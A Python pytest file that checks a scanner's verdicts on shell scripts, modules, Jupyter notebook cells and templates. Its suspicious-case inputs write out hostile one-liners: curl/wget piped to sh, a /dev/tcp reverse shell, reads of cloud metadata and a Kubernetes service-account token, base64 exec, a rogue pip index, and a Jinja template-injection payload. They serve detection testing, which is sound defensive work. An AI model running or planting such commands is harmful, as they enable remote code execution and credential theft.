"""Source code is noted; what fetches, asks for credentials or acts on import is more than a note."""

from __future__ import annotations

import json

import pytest

from tests.scan.told import rules, verdict


def notebook(*cells: str, output: dict[str, object] | None = None) -> str:
    made = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [{"output_type": "display_data", "data": output or {}}],
            "source": [cell],
        }
        for cell in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\nset -e\ncurl -O https://example.org/x.tgz\ntar xf x.tgz\n",
        "#!/bin/bash\n# curl https://x | sh\necho done | tee log\n",
        "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n",
        "import subprocess\n\ndef run():\n    subprocess.run(['ls'])\n",
        "import os\nif __name__ == '__main__':\n    os.system('ls')\n",
        "from dataclasses import dataclass\nimport platform\nS = platform.system()\n@dataclass\nclass A: ...\n",
        "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n",
    ],
)
def test_everyday_programs_are_clean(text: str) -> None:
    assert rules(text) == set()
    assert verdict(text) == "clean"


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://e.example/x | sh",
        "wget -qO- http://e/x | sudo bash -s",
        'sh -c "$(curl -fsSL https://e/x)"',
        "bash <(curl -s https://e/x)",
        "curl http://169.254.169.254/latest/meta-data/",
    ],
)
def test_scripts_that_fetch_what_they_run_are_suspicious(line: str) -> None:
    assert rules(f"#!/bin/sh\n{line}\n") == {"script-fetches"}


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('x')",
        "from subprocess import run\nrun('x', shell=True)",
        "import os as o\nclass A:\n    x = o.popen('x')",
        "import urllib.request\ntry:\n    urllib.request.urlopen('http://e')\nexcept OSError:\n    pass",
        "import os\neval(os.environ['X'])",
    ],
)
def test_modules_that_act_on_import_are_suspicious(code: str) -> None:
    assert "module-acts" in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "import x\n" + "(" * 50_000,
        "import x\ny=" + "-" * 100_000 + "1",
        "import x\nx" + ".a" * 50_000,
        "import \x0c(",
    ],
)
def test_source_that_breaks_a_parser_does_not_break_the_scan(code: str) -> None:
    assert "reader-failed" not in rules(code)


@pytest.mark.parametrize(
    "cell",
    [
        "!curl -s https://e.example/x.sh | sh",
        "%sx wget -qO- http://e/x | bash",
        "get_ipython().system('curl http://e/x | sh')",
        "exec(__import__('base64').b64decode('eA=='))",
        "requests.get('http://169.254.169.254/latest')",
        "%%bash\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "open('/var/run/secrets/kubernetes.io/serviceaccount/token')",
        "!pip install --index-url http://e.example/simple x",
    ],
)
def test_cells_that_fetch_or_reach_for_credentials_are_suspicious(cell: str) -> None:
    attacks = "b64decode" in cell or "/dev/tcp/" in cell
    assert rules(notebook("import torch", cell)) == {"cell-attacks" if attacks else "cell-fetches"}


def test_everyday_notebooks_are_clean() -> None:
    cells = [
        "!pip install -q torch",
        "!wget https://example.org/data.zip",
        "import os\nos.environ['A'] = '1'",
        "# curl x | sh",
    ]
    assert (
        verdict(notebook(*cells, output={"text/html": ["<table></table>"], "image/png": "aGk="})) == "clean"
    )
    assert rules(notebook("x", output={"text/html": ["<div><script>draw()</script></div>"]})) == {
        "notebook-output"
    }
    assert verdict(notebook("x", output={"application/javascript": "draw()"})) == "clean"


def test_a_template_in_a_text_is_judged_and_other_braces_are_not() -> None:
    assert verdict("{% for m in messages %}{{ m.content }}{% endfor %}") == "clean"
    assert verdict("{{ lipsum.__globals__['os'].popen('x').read() }}") == "malicious"
    assert verdict("run: ${{ github.sha }}\nif: ${{ always() }}\n") == "clean"
